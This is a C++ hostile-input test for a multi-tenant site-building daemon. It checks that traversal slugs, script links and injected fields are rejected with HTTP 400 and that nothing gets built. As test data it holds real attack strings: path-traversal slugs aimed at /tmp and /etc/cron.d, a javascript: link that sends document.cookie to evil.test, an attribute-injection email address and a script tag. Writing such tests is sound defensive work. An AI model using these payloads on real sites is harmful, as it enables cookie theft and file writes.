// tests/hostile/website_data_test.cc: issue 11 (the template site) against a real slipwayd: a
// tenant's website_data with a traversal slug (which once made the template's build write
// /tmp/x.html as root), a javascript: link, a hostile contact address or a key outside the
// schema is refused with 400 naming the field; no workflow is created, nothing reaches the
// emulator (so nothing is committed or built), and the daemon stays up.
#include <unistd.h>

#include <filesystem>

#include "tests/hostile/hostile_fixture.h"

namespace slipway::hostile {
namespace {

using nlohmann::json;

json Pages(const std::string& fourth_slug) {
  return json::array({{{"slug", "index"}, {"title", "Home"}, {"body", "Welcome"}},
                      {{"slug", "about"}, {"title", "About"}},
                      {{"slug", "menu"}, {"title", "Menu"}},
                      {{"slug", fourth_slug}, {"title", "X"}}});
}

json SiteData(const std::string& fourth_slug = "contact") {
  return {{"siteName", "Alpha"},
          {"tagline", "hello"},
          {"contactEmail", "owner@alpha.test"},
          {"pages", Pages(fourth_slug)}};
}

std::string Deployment(const json& website_data) {
  return json{
      {"type", "deployment"}, {"tenant", "alpha"}, {"input", {{"website_data", website_data}}}}
      .dump();
}

TEST_F(HostileTest, TraversalSlugsScriptLinksAndBadAddressesAreRefusedAt400) {
  SlipwaydProcess& s = server();
  const std::string escape_to = "/tmp/slipway-hostile-site-" + std::to_string(getpid());
  json javascript_link = SiteData();
  javascript_link["links"] = {
      {{"label", "Win"}, {"href", "javascript:fetch('//evil.test/'+document.cookie)"}}};
  json cased_javascript = SiteData();
  cased_javascript["links"] = {{{"label", "Win"}, {"href", "JaVaScRiPt:alert(1)"}}};
  json bad_email = SiteData();
  bad_email["contactEmail"] = "x\" onmouseover=\"alert(1)@alpha.test";
  json unknown_key = SiteData();
  unknown_key["pages"][1]["script"] = "<script>alert(1)</script>";
  json duplicate = SiteData("index");
  const std::vector<std::pair<json, std::string>> attacks = {
      {SiteData("../../../../../../tmp/x"), "website_data.pages[3].slug"},
      {SiteData("../../../../../.." + escape_to), "website_data.pages[3].slug"},
      {SiteData("/etc/cron.d/x"), "website_data.pages[3].slug"},
      {SiteData("..%2F..%2Fx"), "website_data.pages[3].slug"},
      {duplicate, "website_data.pages[3].slug"},
      {javascript_link, "website_data.links[0].href"},
      {cased_javascript, "website_data.links[0].href"},
      {bad_email, "website_data.contactEmail"},
      {unknown_key, "website_data.pages[1].script"},
  };
  const size_t before = s.EmulatorLog().size();
  for (const auto& [data, field] : attacks) {
    Reply r = s.Call("POST", "/v1/workflows", s.token("alpha"), Deployment(data));
    EXPECT_EQ(r.status, 400) << data.dump() << " -> " << r.text;
    EXPECT_EQ(r.body["error"].value("field", ""), field) << data.dump() << " -> " << r.text;
  }
  Reply list = s.Call("GET", "/v1/workflows?tenant=alpha", s.token("ops"));
  EXPECT_EQ(list.status, 200) << list.text;
  for (const json& w : list.body.value("workflows", json::array())) {
    EXPECT_NE(w.value("tenant", ""), "alpha") << "a refused start left a workflow: " << w.dump();
  }
  EXPECT_TRUE(s.EmulatorLogSince(before).empty());  // nothing committed, deployed or built
  EXPECT_FALSE(std::filesystem::exists(escape_to + ".html"));
  s.ExpectAlive();
}

}  // namespace
}  // namespace slipway::hostile
